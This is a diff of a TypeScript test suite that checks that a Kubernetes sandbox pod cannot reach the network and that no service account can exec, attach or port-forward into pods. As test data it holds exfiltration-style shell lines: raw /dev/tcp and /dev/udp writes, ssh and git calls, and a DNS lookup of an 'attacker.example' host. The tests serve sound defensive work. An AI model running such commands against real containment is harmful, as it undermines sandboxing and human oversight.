@@ -493,9 +493,12 @@ describe("the manifests npm run build writes, deployed with the images npm run i
       const sh = (command: string) => exec(mine, "harness", "timeout", "5", "bash", "-c", command);
       expect(dropped(sh(`exec 3<>/dev/tcp/${PUBLIC.allowedIp}/80`))).toBe(true);
       expect(sh(`git -c http.proxy= ls-remote http://${PUBLIC.allowedIp}/around.git`).status).not.toBe(0);
-      expect(
-        sh(`ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no git@${PUBLIC.allowedIp} true`).status,
-      ).not.toBe(0);
+      // ssh to a port that listens (the stand-in's :22 records every connection): its connect is
+      // dropped, not answered.
+      const ssh = sh(
+        `ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no git@${PUBLIC.allowedIp} true`,
+      );
+      expect([ssh.status === 0, ssh.stderr]).toEqual([false, expect.stringMatching(/port 22: Connection timed out/)]);
       sh(`echo exfil-udp-harness > /dev/udp/${PUBLIC.otherIp}/7`);
       expect(sh("getent hosts exfil-dns-harness.attacker.example").status).not.toBe(0);
       // Nothing of any of them arrived outside: the stand-in's recorders saw none of it.
@@ -517,6 +520,34 @@ describe("the manifests npm run build writes, deployed with the images npm run i
           .http()
           .some((r) => r.path.startsWith("/around.git")),
       ).toBe(false);
+      // The ssh listener saw no connection at all, the Harness's pod's address least of all.
+      const ssh22 = `${PUBLIC.allowedIp}:22`;
+      const harnessIp = getJson(["pod", "-n", SANDBOXES, mine]).status.podIP as string;
+      expect(
+        host()
+          .tcp()
+          .filter((r) => r.local === ssh22),
+      ).toEqual([]);
+      // The control: the same connect from a pod on the same node that no policy holds (the scripted
+      // model's) reaches the listener, so what held the Harness back is its egress policy.
+      const model = getJson(["pods", "-n", modelNs, "-l", `app.kubernetes.io/name=${SCRIPTED_MODEL}`]).items[0];
+      const dial = kubectl([
+        "exec",
+        "-n",
+        modelNs,
+        model.metadata.name,
+        "--",
+        "node",
+        "-e",
+        DIAL_JS(PUBLIC.allowedIp, 22),
+      ]);
+      expect(dial.stdout.trim()).toBe("connected");
+      const reached = await host().waitFor("the control's connection on :22", (rs) => {
+        const at = rs.filter((r) => r.kind === "tcp" && r.local === ssh22);
+        return at.length ? at : undefined;
+      });
+      expect(reached.map((r) => r.from)).toEqual([model.status.podIP]);
+      expect(reached.map((r) => r.from)).not.toContain(harnessIp);
     });
 
     test("the user seat and the Effector reach the allowed host by their proxy, and nothing else", async () => {
@@ -778,7 +809,6 @@ describe("the manifests npm run build writes, deployed with the images npm run i
       );
       for (const [verb, resource] of [
         ["create", "pods"],
-        ["exec", "pods"],
         ["list", "secrets"],
         ["create", "deployments"],
       ])
@@ -846,6 +876,94 @@ describe("the manifests npm run build writes, deployed with the images npm run i
         ["patch", "pods"],
       ])
         expect([verb, resource, can(PEPR_NS, MODULE, verb, resource, "default")]).toEqual([verb, resource, "no"]);
+    });
+
+    // An exec, attach or port-forward is a `create` on the pod's subresource (a POST; and from 1.35,
+    // with AuthorizePodWebsocketUpgradeCreatePermission on by default, a websocket's GET is asked
+    // `create` too, after the `get` its method maps to: both are asked here). `can-i exec pods` asked
+    // a verb no rule grants, so it said "no" whatever the roles held.
+    test("no service account of the installation may exec into, attach to or port-forward a pod, anywhere it runs", async () => {
+      /** Each ask's answer for `account` ("namespace:name"), by SubjectAccessReviews in one kubectl
+       * call, the account stated as `kubectl auth can-i --as` states it: its user and its groups. */
+      const answers = (account: string, asks: Array<{ verb: string; sub: string; ns: string }>) => {
+        const [home, name] = account.split(":");
+        const reviews = asks.map((a) => ({
+          apiVersion: "authorization.k8s.io/v1",
+          kind: "SubjectAccessReview",
+          spec: {
+            user: `system:serviceaccount:${home}:${name}`,
+            groups: ["system:serviceaccounts", `system:serviceaccounts:${home}`, "system:authenticated"],
+            resourceAttributes: { namespace: a.ns, verb: a.verb, resource: "pods", subresource: a.sub },
+          },
+        }));
+        // One line per review, in the order given: its status.allowed.
+        const allowed = kubectlOk(
+          ["create", "-o", 'jsonpath={.status.allowed}{"\\n"}', "-f", "-"],
+          JSON.stringify({ apiVersion: "v1", kind: "List", items: reviews }),
+        )
+          .trim()
+          .split("\n");
+        expect(allowed.length).toBe(asks.length);
+        return asks.map((a, i) => `${a.verb} pods/${a.sub} in ${a.ns}: ${allowed[i] === "true" ? "yes" : "no"}`);
+      };
+      const asksIn = (namespaces: string[]) =>
+        namespaces.flatMap((ns) =>
+          ["exec", "attach", "portforward"].flatMap((sub) => ["create", "get"].map((verb) => ({ verb, sub, ns }))),
+        );
+      /** Every service account the installation's pods run as (admission, watcher, Orchestrator,
+       * cache agent, egress point), and the one its Sandbox pods run as (their namespace's default). */
+      const accounts = new Set<string>([`${SANDBOXES}:default`]);
+      for (const ns of [PEPR_NS, SYSTEM])
+        for (const p of getJson(["pods", "-n", ns]).items as Obj[])
+          accounts.add(`${ns}:${p.spec.serviceAccountName ?? "default"}`);
+      // Those five at least; any other account a pod there runs as is asked the same.
+      expect([...accounts]).toEqual(
+        expect.arrayContaining([
+          `${PEPR_NS}:${MODULE}`,
+          `${SYSTEM}:jr2-cache-agent`,
+          `${SYSTEM}:jr2-egress`,
+          `${SYSTEM}:jr2-orchestrator`,
+          `${SANDBOXES}:default`,
+        ]),
+      );
+      const everywhere = asksIn([SANDBOXES, SYSTEM, PEPR_NS, "default"]);
+      for (const account of accounts)
+        expect([account, answers(account, everywhere).filter((a) => !a.endsWith(": no"))]).toEqual([account, []]);
+      // The control: an account granted exec and attach is answered "yes" by the same asks (and "no"
+      // by the old one), so a role that gave one of the installation's accounts the same fails above.
+      const granted = `jr2-can-exec-${suffix}`;
+      apply(
+        { apiVersion: "v1", kind: "ServiceAccount", metadata: { name: granted, namespace: modelNs } },
+        {
+          apiVersion: "rbac.authorization.k8s.io/v1",
+          kind: "Role",
+          metadata: { name: granted, namespace: modelNs },
+          rules: [{ apiGroups: [""], resources: ["pods/exec", "pods/attach"], verbs: ["create", "get"] }],
+        },
+        {
+          apiVersion: "rbac.authorization.k8s.io/v1",
+          kind: "RoleBinding",
+          metadata: { name: granted, namespace: modelNs },
+          roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "Role", name: granted },
+          subjects: [{ kind: "ServiceAccount", name: granted, namespace: modelNs }],
+        },
+      );
+      const control = asksIn([modelNs]).filter((a) => a.sub !== "portforward");
+      await until(`the Role of ${granted} in force`, 10_000, () => {
+        const said = answers(`${modelNs}:${granted}`, control);
+        return said.every((a) => a.endsWith(": yes")) ? said : undefined;
+      });
+      expect(
+        kubectl([
+          "auth",
+          "can-i",
+          "exec",
+          "pods",
+          `--as=system:serviceaccount:${modelNs}:${granted}`,
+          "-n",
+          modelNs,
+        ]).stdout.trim(),
+      ).toBe("no");
     });
 
     test("nothing runs as root but the cache agent, whose cache root is a root-owned hostPath", () => {
